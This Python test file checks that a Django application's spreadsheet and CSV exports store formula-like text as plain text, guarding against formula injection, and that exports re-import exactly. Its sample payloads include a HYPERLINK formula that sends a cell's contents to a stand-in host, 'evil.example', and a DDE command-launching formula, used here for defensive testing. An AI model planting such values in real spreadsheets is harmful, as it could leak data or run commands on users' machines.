"""Formula injection (issue 18.2): every spreadsheet we write keeps formula-like text as
text, and our own importer reads the export back exactly."""

from __future__ import annotations

import datetime as dt
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django_scopes import scope

from documents.memo.content import build_memo
from documents.memo.xlsx import render_xlsx
from documents.tests.sample import NAMES, PRODUCED_AT, sample_extras, sample_memo
from finsam.safe_cells import (
    FORMULA_TRIGGERS,
    csv_cell,
    csv_original,
    is_formula_like,
    save_workbook,
)
from imports.tests.workbooks import content, run_import
from imports.workbook import export_workbook
from participants.views.national import workbook_bytes
from stats.national import GenderCounts, NationalCounts, NationalRow
from testing.factories import AssociationFactory, InterventionFactory

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&B2,"Öppna")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
)
#: Codes may start with "-" (importmall's kod pattern), the only trigger a kod may hold.
CODE_PAYLOAD = "-A1"
ROOT = Path(__file__).resolve().parents[2]


def load(data: bytes) -> Any:
    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(data))


def formula_like_cells(workbook: Any) -> list[tuple[str, str]]:
    """(value, data type) of every cell that holds formula-like text or is a formula."""
    return [
        (cell.value, cell.data_type)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or is_formula_like(cell.value)
    ]


def test_is_formula_like_each_trigger() -> None:
    assert [is_formula_like(f"{start}x") for start in FORMULA_TRIGGERS] == [True] * 6
    assert [is_formula_like(value) for value in ("x=1", " =1", "", 5, None, "–1")] == [False] * 6


def test_save_workbook_writes_payloads_as_text() -> None:
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(list(PAYLOADS))  # type: ignore[union-attr]  # the default sheet
    buffer = io.BytesIO()

    save_workbook(workbook, buffer)

    assert formula_like_cells(load(buffer.getvalue())) == [(text, "s") for text in PAYLOADS]


def test_csv_cell_prefixes_payloads_and_csv_original_undoes_it() -> None:
    written = [csv_cell(text) for text in PAYLOADS]

    assert (written, [csv_original(str(text)) for text in written]) == (
        ["'" + text for text in PAYLOADS],
        list(PAYLOADS),
    )
    assert [csv_cell("hej"), csv_cell(5), csv_original("'hej")] == ["hej", 5, "'hej"]


@pytest.mark.django_db
def test_workbook_export_payloads_are_text_and_round_trip(tmp_path: Path) -> None:
    source = AssociationFactory.create()
    # The reader strips the blanks around a cell (tab, CR) as it always has.
    payloads = sorted({text.strip() for text in PAYLOADS})
    for number, text in enumerate(payloads):
        InterventionFactory.create(
            association=source, code=f"{CODE_PAYLOAD}{number}", name=text, short_name=text
        )
    buffer = io.BytesIO()
    with scope(association=source.pk):
        export_workbook(buffer, association=source)
    path = tmp_path / "export.xlsx"
    path.write_bytes(buffer.getvalue())

    cells = formula_like_cells(load(buffer.getvalue()))
    target = AssociationFactory.create()
    result = run_import(path, target)

    assert sorted({text for text, kind in cells if kind == "s"} & set(payloads)) == payloads
    assert [kind for _text, kind in cells] == ["s"] * len(cells)
    assert (result.problems, content(target)) == ([], content(source))


def test_memo_xlsx_payloads_are_text() -> None:
    payload = PAYLOADS[1]
    document = build_memo(
        sample_memo(suppressed=True),
        names=dict.fromkeys(NAMES, payload),
        extras=sample_extras(),
        texts={},
        produced_at=PRODUCED_AT,
    )

    cells = formula_like_cells(load(render_xlsx(document)))

    assert payload in {text for text, _kind in cells}
    assert [kind for _text, kind in cells] == ["s"] * len(cells)


def test_national_xlsx_payloads_are_text() -> None:
    counts = NationalCounts(
        year=2024,
        registered=[NationalRow(CODE_PAYLOAD, text, GenderCounts(women=1)) for text in PAYLOADS],
        monthly_sums=[],
    )

    cells = formula_like_cells(load(workbook_bytes(counts, PAYLOADS[0])))

    assert sorted(text for text, _kind in cells) == sorted(
        [f"{PAYLOADS[0]}, 2024", *PAYLOADS, *[CODE_PAYLOAD] * len(PAYLOADS)]
    )
    assert [kind for _text, kind in cells] == ["s"] * len(cells)


def test_every_xlsx_writer_saves_through_save_workbook() -> None:
    """A module that builds an openpyxl workbook saves it with ``save_workbook`` only."""
    offenders = []
    for path in sorted(ROOT.glob("*/**/*.py")):
        if ".venv" in path.parts or "tests" in path.parts:
            continue
        text = path.read_text(encoding="utf-8")
        if "from openpyxl import" not in text:
            continue
        names = re.findall(r"\b(\w+)\s*=\s*Workbook\(", text)
        if any(re.search(rf"\b{name}\.save\(", text) for name in names):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


def test_dates_stay_date_cells() -> None:
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append([dt.date(2024, 1, 31), "-"])  # type: ignore[union-attr]  # default
    buffer = io.BytesIO()

    save_workbook(workbook, buffer)

    sheet = load(buffer.getvalue()).active
    assert [sheet["A1"].is_date, sheet["B1"].data_type] == [True, "s"]
